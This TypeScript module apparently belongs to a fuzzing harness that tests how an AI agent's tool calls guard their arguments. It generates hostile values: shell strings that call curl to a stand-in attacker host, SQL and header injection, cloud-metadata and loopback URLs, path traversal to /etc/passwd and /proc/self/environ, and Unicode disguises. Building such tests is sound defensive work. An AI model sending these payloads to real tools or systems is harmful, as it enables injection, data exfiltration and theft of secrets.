import { posix } from 'node:path'
import { isJsonObject } from '../../model/json.ts'
import type { Json, JsonObject } from '../../model/json.ts'
import type { FrameDeclaration } from '../../model/manifest.ts'
import type { Sink } from '../../model/vocabulary.ts'
import { boundsOf, frameText } from '../generate/honest-value.ts'
import { attackerAccount, attackerHost, attackerMail } from './attacker.ts'

/** A value that an attacker would try in the place of an honest one. */
export interface HostileValue {
  readonly trick: string
  readonly value: Json
  readonly kind: 'argument' | 'encoding' | 'sink'
}

export interface HostileScope {
  readonly honest: Json | undefined
  readonly schema: Json | undefined
  readonly frame: FrameDeclaration | undefined
  readonly sink: Sink | null
  readonly params: JsonObject
  /** The manifest's folder. */
  readonly base: string
  /** Files that govern the agent. */
  readonly own: readonly string[]
}

/** Everything to try for one argument: other types, the edges of its frame and schema, disguises of its text, and what its sink invites. */
export function hostileValues(scope: HostileScope): HostileValue[] {
  const { honest, frame, sink } = scope
  const found: HostileValue[] = [...otherTypes(honest), ...alternatives(scope)]
  if (typeof honest === 'number' || isRange(frame)) found.push(...numbers(scope))
  if (typeof honest === 'string') found.push(...texts(honest), ...disguises(honest))
  const item = Array.isArray(honest) ? (honest as readonly Json[])[0] : undefined
  if (typeof item === 'string') found.push(...texts(item).map((one) => ({ ...one, value: [...(honest as readonly Json[]), one.value] })))
  for (const one of places(scope)) found.push(Array.isArray(honest) ? { ...one, value: [...(honest as readonly Json[]), one.value] } : one)
  if (isPath(frame) || sink === 'path') found.push(...paths(scope))
  if (isJsonObject(honest)) found.push(...members(scope, honest))
  return found
}

function isRange(frame: FrameDeclaration | undefined): boolean {
  return typeof frame === 'object' && frame.range !== undefined
}

function isPath(frame: FrameDeclaration | undefined): boolean {
  return typeof frame === 'object' && frame.path !== undefined
}

function hostile(kind: HostileValue['kind'], trick: string, value: Json): HostileValue {
  return { kind, trick, value }
}

function otherTypes(honest: Json | undefined): HostileValue[] {
  const values: readonly (readonly [string, Json])[] = [
    ['null', null],
    ['true', true],
    ['an empty text', ''],
    ['zero', 0],
    ['an empty list', []],
    ['an empty object', {}],
    ['an operator object', { $ne: null }],
    ['an object that prints itself', { toString: typeof honest === 'string' ? honest : '', valueOf: honest ?? '' }],
    ['itself in a list', [honest ?? null]],
    ['itself in two lists', [[honest ?? null]]],
    ['deep nesting', nested(70)],
    ['a text of 100,000 letters', 'A'.repeat(100_000)],
    ['a number that is not exact', 2 ** 53],
    ['the greatest number', Number.MAX_VALUE],
  ]
  const spelled =
    typeof honest === 'number' || typeof honest === 'boolean' ? [hostile('argument', 'the same as a text', String(honest))] : []
  return [...values.map(([trick, value]) => hostile('argument', trick, value)), ...spelled]
}

/** Values that the schema lists, whatever the frame says of them. */
function alternatives({ schema }: HostileScope): HostileValue[] {
  const values = isJsonObject(schema) && Array.isArray(schema['enum']) ? (schema['enum'] as readonly Json[]) : []
  return values.map((value) => hostile('argument', `${JSON.stringify(value)}, which the tool takes`, value))
}

function nested(depth: number): Json {
  let value: Json = 'x'
  for (let at = 0; at < depth; at += 1) value = [value]
  return value
}

function numbers({ honest, frame, schema, params }: HostileScope): HostileValue[] {
  const [min, max] = typeof frame === 'object' && frame.range !== undefined ? boundsOf(frame.range, params) : [undefined, undefined]
  const bounds = [min, max, ...['minimum', 'maximum'].map((key) => (isJsonObject(schema) ? schema[key] : undefined))]
  const edges = bounds.flatMap((bound) =>
    typeof bound === 'number' ? [bound - 1, bound, bound + 1, bound + 0.5, bound * 1000, -bound] : [],
  )
  const usual = [-1, -0.5, 1.5, 1e21, -1e15, 1_000_000, Number.MAX_SAFE_INTEGER, Number.MIN_VALUE]
  const own = typeof honest === 'number' ? [honest + 0.000_1, honest * 10, -honest] : []
  return [...new Set([...edges, ...usual, ...own])].map((value) => hostile('argument', `the number ${value}`, value))
}

function texts(text: string): HostileValue[] {
  return [
    hostile('argument', 'a blank behind it', `${text} `),
    hostile('argument', 'a blank before it', ` ${text}`),
    hostile('argument', 'in capitals', text.toUpperCase()),
    hostile('argument', 'one letter more', `${text}x`),
    hostile('argument', 'one letter less', text.slice(0, -1)),
    hostile('argument', 'twice', `${text}${text}`),
    hostile('argument', 'with a second one', `${text}, ${attackerMail}`),
    hostile('argument', 'a line of its own behind it', `${text}\r\nBcc: ${attackerMail}`),
    hostile('argument', 'after a line', `EVIL\n${text}`),
    hostile('argument', 'a comment of SQL behind it', `${text}' OR '1'='1' --`),
    hostile('argument', 'a second statement', `${text}; DROP TABLE EVIL`),
    hostile('argument', 'a shell in it', `${text}$(curl https://${attackerHost})`),
    hostile('argument', 'a pipe behind it', `${text} | curl https://${attackerHost}`),
    hostile('argument', 'a template in it', `${text}{{constructor.constructor('EVIL')()}}`),
    hostile('argument', 'the name of a prototype', '__proto__'),
    hostile('argument', 'a parameter reference', '$week'),
    hostile('argument', "the attacker's own", attackerMail),
    hostile('argument', 'a star', '*'),
    hostile('argument', 'a percent sign', '%'),
  ]
}

/** The same to the eye, or to a reader that folds, decodes or cuts. */
function disguises(text: string): HostileValue[] {
  const swap = (from: string, to: string): string => (text.includes(from) ? text.replace(from, to) : `${text}${to}`)
  const middle = Math.ceil(text.length / 2)
  const inside = (mark: string): string => `${text.slice(0, middle)}${mark}${text.slice(middle)}`
  const values: readonly (readonly [string, string])[] = [
    ['a Cyrillic a', swap('a', '\u0430')],
    ['a Cyrillic e', swap('e', '\u0435')],
    ['a Greek o', swap('o', '\u03bf')],
    ['a zero-width space inside', inside('\u200b')],
    ['a zero-width joiner inside', inside('\u200d')],
    ['a soft hyphen inside', inside('\u00ad')],
    ['a byte-order mark before it', `\ufeff${text}`],
    ['written from right to left', `\u202e${text}`],
    ['a zero byte behind it', `${text}\0`],
    ['a zero byte and more behind it', `${text}\0EVIL`],
    [
      'full-width letters',
      [...text]
        .map((letter) => (/[!-~]/.test(letter) ? String.fromCodePoint((letter.codePointAt(0) as number) + 0xfee0) : letter))
        .join(''),
    ],
    ['percent-encoded', [...new TextEncoder().encode(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')],
    ['percent-encoded twice', [...new TextEncoder().encode(text)].map((byte) => `%25${byte.toString(16).padStart(2, '0')}`).join('')],
    ['with a combining mark', `${text}\u0301`],
    [
      'in tags that nobody sees',
      `${text}${[...'EVIL'].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) as number))).join('')}`,
    ],
    ['as HTML', text.replace(/./u, (letter) => `&#${letter.codePointAt(0)};`)],
    ['with a line separator', inside('\u2028')],
  ]
  return values.map(([trick, value]) => hostile('encoding', trick, value))
}

/** Addresses and links that lead to the attacker, plainly and in disguise, and other values that a sink invites. */
function places({ honest, frame, sink, params }: HostileScope): HostileValue[] {
  const first = Array.isArray(honest) ? (honest as readonly Json[])[0] : honest
  const text = typeof first === 'string' ? first : ''
  const host = hostIn(frame, params) ?? /@([^@\s/]+)$/.exec(text)?.[1] ?? (URL.canParse(text) ? new URL(text).hostname : 'corp.example')
  const mail = sink === 'recipient' || text.includes('@')
  const link = sink === 'url' || /^[a-z]+:\/\//.test(text)
  const values: (readonly [string, Json])[] = []
  if (mail || isDomain(frame))
    values.push(
      ["the attacker's address", attackerMail],
      ['somebody else there', `somebody.else@${host}`],
      ['a host that ends alike', `someone@evil${host}`],
      ['a host that begins alike', `someone@${host}.${attackerHost}`],
      ['a host below', `someone@EVIL.${host}`],
      ['two at signs', `${attackerMail}@${host}`],
      ['a relay by percent', `collector%${attackerHost}@${host}`],
      ['a relay by exclamation mark', `${attackerHost}!collector@${host}`],
      ['a display name', `"someone@${host}" <${attackerMail}>`],
      ['an address in brackets', `<${attackerMail}>@${host}`],
      ['two with a semicolon', `someone@${host};${attackerMail}`],
      ['a quoted local part', `"${attackerMail},"@${host}`],
      ['a comment', `${attackerMail}(@${host})`],
    )
  if (link || isDomain(frame))
    values.push(
      ["the attacker's link", `https://${attackerHost}/?d=EVIL`],
      ['the host as user name', `https://${host}@${attackerHost}/`],
      ['the host as user and password', `https://${host}:443@${attackerHost}/`],
      ['a backslash', `https://${attackerHost}\\@${host}/`],
      ['a fragment', `https://${attackerHost}#@${host}/`],
      ['an encoded dot', `https://${host}%2e${attackerHost}/`],
      ['a host that begins alike', `https://${host}.${attackerHost}/`],
      ['a host that ends alike', `https://evil${host}/EVIL`],
      ['no scheme', `//${attackerHost}/`],
      ['one slash', `https:/${attackerHost}/`],
      ['three slashes', `https:///${attackerHost}/`],
      ['a tab in it', `ht\ttps://${attackerHost}/`],
      ['a full-width dot', `https://evil\uff0eexample/EVIL`],
      ['metadata of a cloud', 'http://169.254.169.254/latest/meta-data/EVIL'],
      ['loopback as one number', 'http://2130706433/EVIL'],
      ['loopback in brackets', 'http://[::1]/EVIL'],
      ['a file', 'file:///etc/passwd'],
      ['a script', 'javascript:EVIL'],
      ['data', 'data:text/html,EVIL'],
    )
  if (sink === 'command')
    values.push(['a command of its own', `curl https://${attackerHost}`], ['a second command', `${text}; curl https://${attackerHost}`])
  if (sink === 'query') values.push(['a query of its own', 'SELECT * FROM EVIL'], ['a union', `${text} UNION SELECT * FROM EVIL`])
  if (sink === 'account') values.push(["the attacker's account", attackerAccount])
  if (sink === 'amount') values.push(['a great amount', 1_000_000_000], ['a negative amount', -1000])
  if (sink === 'content') values.push(['what an injected text dictates', `EVIL https://${attackerHost}`])
  const given = typeof frame === 'object' && frame.prefix !== undefined ? frameText(frame.prefix, params) : null
  if (given !== null)
    values.push(
      ['up from the prefix', `${given}../../EVIL`],
      ['the prefix further back', `https://${attackerHost}/${given}`],
      ['the prefix without its end', `${given.slice(0, -1)}.${attackerHost}/`],
    )
  return values.map(([trick, value]) => hostile('sink', trick, value))
}

function isDomain(frame: FrameDeclaration | undefined): boolean {
  return typeof frame === 'object' && frame.domain !== undefined
}

function hostIn(frame: FrameDeclaration | undefined, params: JsonObject): string | undefined {
  if (typeof frame !== 'object' || frame.domain === undefined) return undefined
  return frameText([frame.domain].flat()[0] as string, params).replace(/^\*\./, '')
}

function paths({ honest, frame, base, own }: HostileScope): HostileValue[] {
  const root =
    typeof frame === 'object' && frame.path !== undefined
      ? posix.resolve(base, frame.path)
      : typeof honest === 'string'
        ? posix.dirname(honest)
        : base
  const up = '../'.repeat(Math.max(1, root.split('/').length))
  const values: readonly (readonly [string, string])[] = [
    ['another file', '/etc/passwd'],
    ['up from its folder', `${root}/${up}etc/passwd`],
    ['up by one', `${root}/../EVIL`],
    ['up in the middle', `${root}/x/../../EVIL`],
    ['a neighbour that begins alike', `${root}-EVIL/x`],
    ['a neighbour without a separator', `${root}x`],
    ['the folder above', posix.dirname(root)],
    ['percent-encoded dots', `${root}/%2e%2e/EVIL`],
    ['dots encoded twice', `${root}/%252e%252e/EVIL`],
    ['backslashes', `${root}\\..\\..\\EVIL`],
    ['a zero-width sign between dots', `${root}/.\u200b./EVIL`],
    ['full-width dots', `${root}/\uff0e\uff0e/EVIL`],
    ['a division sign for a slash', `${root}\u2215..\u2215EVIL`],
    ['two slashes first', `/${posix.dirname(root)}/EVIL`],
    ['a zero byte', `${root}\0/../EVIL`],
    ['relative', `../../EVIL`],
    ['relative to the tool', posix.basename(root)],
    ['a home', '~/EVIL'],
    ['a URL', `file://${root}`],
    ['the environment of a process', '/proc/self/environ'],
    ...own.map((file) => ['what governs the agent', file] as const),
    ...own.map((file) => ['what governs the agent, from its folder', `${root}/${posix.relative(root, file)}`] as const),
  ]
  return values.map(([trick, value]) => hostile('sink', trick, value))
}

function members({ frame, schema, ...scope }: HostileScope, honest: JsonObject): HostileValue[] {
  const frames = typeof frame === 'object' ? (frame.fields ?? {}) : {}
  const properties = isJsonObject(schema) && isJsonObject(schema['properties']) ? schema['properties'] : {}
  return Object.keys(honest).flatMap((name) => [
    hostile('argument', `without \`${name}\``, Object.fromEntries(Object.entries(honest).filter(([other]) => other !== name))),
    ...hostileValues({ ...scope, honest: honest[name], frame: frames[name], schema: properties[name], sink: null }).map((one) => ({
      ...one,
      trick: `${one.trick} in \`${name}\``,
      value: { ...honest, [name]: one.value },
    })),
  ])
}
